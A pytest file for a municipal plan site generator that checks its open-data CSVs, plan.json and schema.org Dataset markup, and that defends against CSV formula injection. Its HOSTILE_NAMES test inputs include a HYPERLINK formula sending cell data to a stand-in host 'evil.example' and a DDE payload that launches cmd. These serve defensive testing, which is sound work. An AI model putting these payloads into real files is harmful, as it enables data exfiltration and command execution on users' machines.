"""Open data: the CSVs read with Python's csv module match the plan (BOM included), plan.json is the
validated plan, and every schema.org Dataset on the open-data page points at a file of the built site."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import shutil
import subprocess
from pathlib import Path

import pytest

from generator.languages import all_languages, published_languages, required_languages
from generator.model import Plan
from generator.model.licences import preset
from generator.ruby import RUBY, each_text, plain
from generator.prepare.open_data import BOM, open_data_files, tables
from generator.load.plan import load_plan
from generator.prepare.progress import assess_plan, plan_indicators
from tests.conftest import PLANS, ROOT

ALL = {**PLANS, "graded": ROOT / "tests" / "data" / "progress" / "graded"}


def _read(site: Path, relative: str) -> list[dict[str, str]]:
    raw = (site / "data" / relative).read_bytes()
    assert raw.startswith(BOM.encode("utf-8")), f"{relative} has no BOM"
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
    header = rows[0]
    assert all(" / " in name for name in header if not re.fullmatch(r"(FY)?\d{4}", name)), header
    return [dict(zip([name.split(" / ")[-1] for name in header], row)) for row in rows[1:]]


def _number(text: str):
    return float(text) if text else None


@pytest.mark.parametrize("name", sorted(PLANS))
def test_csvs_match_the_plan(built_sites, name):
    site = built_sites(name)
    plan = load_plan(PLANS[name]).plan
    places = list(plan_indicators(plan))
    assessments = assess_plan(plan)
    if places:
        rows = _read(site, "indicators.csv")
        assert [row["ID"] for row in rows] == [p.indicator.id for p in places]
        for row, place in zip(rows, places):
            kpi = place.indicator
            assert row["Name [ja]"] == kpi.name.ja and row["Name [en]"] == kpi.name.en
            if kpi.baseline is not None and kpi.baseline.value is not None:
                assert _number(row["Baseline"]) == kpi.baseline.value
            if kpi.target is not None and kpi.target.value is not None:
                assert _number(row["Target"]) == kpi.target.value
            assert row["Status"] == assessments[kpi.id].status.value
            assert row["Direction"] == (kpi.direction.value if kpi.direction else "")
    else:
        assert not (site / "data" / "indicators.csv").exists()
    for table in tables(plan):
        rows = _read(site, f"tables/{table.id}.csv")
        assert [row["Row [ja]"] for row in rows] == [r.label.ja for r in table.rows]
        for row, source in zip(rows, table.rows):
            cells = list(row.values())[len(required_languages()):-1]
            # A dash the source prints for "none" is text: "-" is written "'-", as every text that could start a formula.
            cells = [c.removeprefix("'") if c == "'-" else c for c in cells]
            assert [None if c == "" else (c if c in ("-", "―", "—") else float(c)) for c in cells] == [
                c if isinstance(c, str) or c is None else float(c) for c in source.cells], (table.id, source.label.ja)


def test_indicator_actuals_reach_the_csv():
    plan = load_plan(ALL["graded"]).plan
    files = {f.path: f for f in open_data_files(plan)}
    rows = list(csv.DictReader(io.StringIO(files["indicators.csv"].content.removeprefix(BOM))))
    by_id = {row["識別子 / ID"]: row for row in rows}
    assert by_id["graded-s"]["最新値 / Latest actual"] == "210"
    assert by_id["graded-s"]["年度別実績 / Actuals by year"] == "FY2021=150; FY2022=210"
    assert by_id["graded-s"]["評価区分 / Grade"] == "beyond_target"
    assert by_id["graded-units"]["比較できない理由 / Why not comparable"] == "different_units"


@pytest.mark.parametrize("name", sorted(PLANS))
def test_plan_json_is_the_validated_plan(built_sites, name):
    site = built_sites(name)
    data = json.loads((site / "data" / "plan.json").read_text(encoding="utf-8"))
    # The plan as validated, each text as a reader sees it with furigana off: the base text, no reading.
    written = load_plan(PLANS[name]).plan.model_dump(mode="json", by_alias=True, exclude_none=True)
    assert Plan.model_validate(data) == Plan.model_validate(each_text(written, plain))
    assert not RUBY.search(json.dumps(data, ensure_ascii=False))
    schema = json.loads((site / "data" / "plan.schema.json").read_text(encoding="utf-8"))
    assert schema["title"] == "Plan" and "root" in schema["properties"]


@pytest.mark.parametrize("name", sorted(PLANS))
def test_every_dataset_points_at_a_file_of_the_site(built_sites, name):
    site = built_sites(name)
    plan = load_plan(PLANS[name]).plan
    # The schema, the Data Package and the catalogue describe the data; each other file is one dataset.
    expected = {f.path for f in open_data_files(plan) if f.kind != "plan_schema"}
    ids: dict[str, set[str]] = {}
    for language in published_languages(plan.root.languages):
        lang, page = language.code, site / language.url_prefix / "data" / "index.html"
        html = page.read_text(encoding="utf-8")
        blocks = [json.loads(b) for b in re.findall(r'<script type="application/ld\+json">(.*?)</script>', html, re.S)]
        lists = [b for b in blocks if isinstance(b, list)]  # other blocks: the page's breadcrumbs
        assert len(lists) == 1, page
        datasets = lists[0]
        assert {d["@type"] for d in datasets} == {"Dataset"}
        found = set()
        for dataset in datasets:
            assert dataset["license"] == (plan.root.data_licence.url if not isinstance(plan.root.data_licence, str) else preset(plan.root.data_licence).url)
            for download in dataset["distribution"]:
                url = download["contentUrl"]
                if plan.root.site_url and url.startswith(plan.root.site_url):
                    target = site / url.removeprefix(plan.root.site_url)
                else:
                    target = (page.parent / url).resolve()
                assert target.is_file(), (lang, url)
                assert download["contentSize"] == f"{target.stat().st_size} B"
                found.add(target.relative_to((site / "data").resolve()).as_posix())
            _recommended(dataset, plan)
            ids[lang] = ids.get(lang, set()) | {(page.parent / dataset["@id"]).resolve().as_uri()
                                               if not dataset["@id"].startswith("https://") else dataset["@id"]}
        assert found == expected, lang
    assert len({frozenset(found) for found in ids.values()}) == 1, ids  # the same datasets on every page


def _recommended(dataset: dict, plan: Plan) -> None:
    """What Google's Dataset guidelines ask for, and what a portal needs to tell the datasets apart."""
    assert len(dataset["description"]) >= 50, dataset["description"]
    assert dataset["identifier"] and dataset["name"] and dataset["keywords"]
    assert dataset["inLanguage"] == ["ja", "en"]
    # plain text: a name's furigana is not part of it
    assert dataset["spatialCoverage"]["name"] in [plan.root.municipality.get(language.code) for language in all_languages()]
    assert dataset["creator"]["@type"] == "GovernmentOrganization"
    if plan.root.website or plan.root.site_url:
        assert dataset["creator"]["url"] == (plan.root.website or plan.root.site_url)
    assert dataset["license"].startswith("https://")
    assert dataset["includedInDataCatalog"]["url"].endswith("catalog.jsonld")
    if any(document.period for document in plan.documents):
        assert re.fullmatch(r"\d{4}-\d{2}-\d{2}/(\d{4}-\d{2}-\d{2}|\.\.)", dataset["temporalCoverage"])
    for download in dataset["distribution"]:
        assert download["encodingFormat"] in ("text/csv", "application/json", "application/ld+json")


def test_open_data_is_deterministic():
    plan = load_plan(ALL["graded"]).plan
    assert [(f.path, f.content) for f in open_data_files(plan)] == [(f.path, f.content) for f in open_data_files(plan)]


# ── A spreadsheet runs no formula from a pull request, and numbers stay numbers (OWASP CSV injection) ──

_NUMBER = re.compile(r"-?\d+(\.\d+)?")
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def _cells(content: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.removeprefix(BOM), newline="")))


def _text_cells_that_could_run(content: str) -> list[str]:
    return [cell for row in _cells(content) for cell in row
            if cell.startswith(FORMULA_START) and not _NUMBER.fullmatch(cell)]


def _every_csv_plan() -> dict[str, Path]:
    progress = ROOT / "tests" / "data" / "progress"
    return {**PLANS, **{f"progress/{path.name}": path for path in sorted(progress.iterdir()) if path.is_dir()}}


@pytest.mark.parametrize("name", sorted(_every_csv_plan()))
def test_no_text_cell_of_any_csv_begins_with_a_formula_character(name):
    # Every CSV of the four plans and the test plans; numbers are checked against the plan in test_csvs_match_the_plan.
    for file in open_data_files(load_plan(_every_csv_plan()[name]).plan):
        if file.media_type == "text/csv":
            assert _text_cells_that_could_run(file.content) == [], file.path


HOSTILE_NAMES = {
    "hyperlink": '=HYPERLINK("http://evil.example/?leak="&A1,"詳細")',
    "dde": "@SUM(1+1)*cmd|' /C calc'!A0",
    "plus": "+1運動の推進",
    "minus": "-10% waste reduction",
    "sum": "=1+1",
}
# A tab or a carriage return can begin no text: the model strips a text's leading and trailing spaces.


def _formula_plan(tmp_path: Path) -> Plan:
    """The minimal plan with names a spreadsheet would run, and negative numbers in a table."""
    import yaml
    plan_dir = tmp_path / "plan"
    shutil.copytree(ROOT / "tests" / "data" / "minimal", plan_dir)
    document = yaml.safe_load((plan_dir / "strategy.yaml").read_text(encoding="utf-8"))
    goal = document["children"][0]
    goal["targets"][0]["name"] = {"ja": HOSTILE_NAMES["hyperlink"], "en": HOSTILE_NAMES["dde"]}
    goal["children"][0]["kpis"][0]["name"] = {"ja": HOSTILE_NAMES["plus"], "en": HOSTILE_NAMES["minus"]}
    goal["children"][0]["projects"][0]["name"] = {"ja": HOSTILE_NAMES["sum"], "en": "\t" + HOSTILE_NAMES["sum"]}
    goal["tables"] = [{"id": "budget", "title": {"ja": "=予算", "en": "-Budget"}, "row_header": {"ja": "@行", "en": "+Row"},
                       "columns": [{"fiscal_year": 2021}, {"fiscal_year": 2022}], "unit": "million_yen",
                       "rows": [{"label": {"ja": "=1+1", "en": "-2+3"}, "cells": [-5, -0.5]},
                                {"label": {"ja": "差額", "en": "Difference"}, "cells": [12, "-"]}]}]
    (plan_dir / "strategy.yaml").write_text(yaml.safe_dump(document, allow_unicode=True), encoding="utf-8")
    return load_plan(plan_dir).plan


def test_names_a_spreadsheet_would_run_are_text_and_numbers_stay_numbers(tmp_path):
    files = {file.path: file.content for file in open_data_files(_formula_plan(tmp_path))}
    indicators, projects, table = (_cells(files[path]) for path in ("indicators.csv", "projects.csv", "tables/budget.csv"))
    names = {cell for row in indicators[1:] + projects[1:] for cell in row}
    for name in HOSTILE_NAMES.values():
        assert "'" + name in names, name  # shown as written, with the apostrophe that keeps it text
    assert table[1][:4] == ["'=1+1", "'-2+3", "-5", "-0.5"]  # the label is text; the figures are numbers
    assert table[2][:4] == ["差額", "Difference", "12", "'-"]
    for content in files.values():
        assert _text_cells_that_could_run(content) == []


@pytest.mark.skipif(shutil.which("soffice") is None and not os.environ.get("CI"),
                    reason="no LibreOffice (apt-get install libreoffice-calc-nogui)")
def test_libreoffice_evaluating_formulas_runs_none_of_them(tmp_path):
    # LibreOffice opens the CSVs as a clerk's spreadsheet would, with "evaluate formulas" on, and saves them
    # again: a formula would come back as its result. Every text cell comes back as it was written.
    sources = {}
    for file in open_data_files(_formula_plan(tmp_path)):
        if file.media_type == "text/csv":
            name = file.path.replace("/", "-")
            (tmp_path / name).write_text(file.content, encoding="utf-8", newline="")
            sources[name] = file.content
    out = tmp_path / "out"
    # Field separator 44 (,), text delimiter 34 ("), UTF-8 (76), from line 1; "evaluate formulas" (true).
    done = subprocess.run(["soffice", "--headless", f"-env:UserInstallation=file://{tmp_path}/profile",
                           "--infilter=CSV:44,34,76,1,,0,false,true,false,false,false,-1,true",
                           "--convert-to", "csv:Text - txt - csv (StarCalc):44,34,76", "--outdir", str(out),
                           *(str(tmp_path / name) for name in sources)], capture_output=True, text=True, timeout=300)
    assert done.returncode == 0, done.stderr
    for name, content in sources.items():
        written, saved = _cells(content), _cells((out / name).read_text(encoding="utf-8-sig"))
        for row, back in zip(written, saved):
            for cell, cell_back in zip(row, back):
                if not _NUMBER.fullmatch(cell) and cell.strip():
                    assert cell_back == cell.replace("\r", "").replace("\t", "") or cell_back == cell, (name, cell, cell_back)
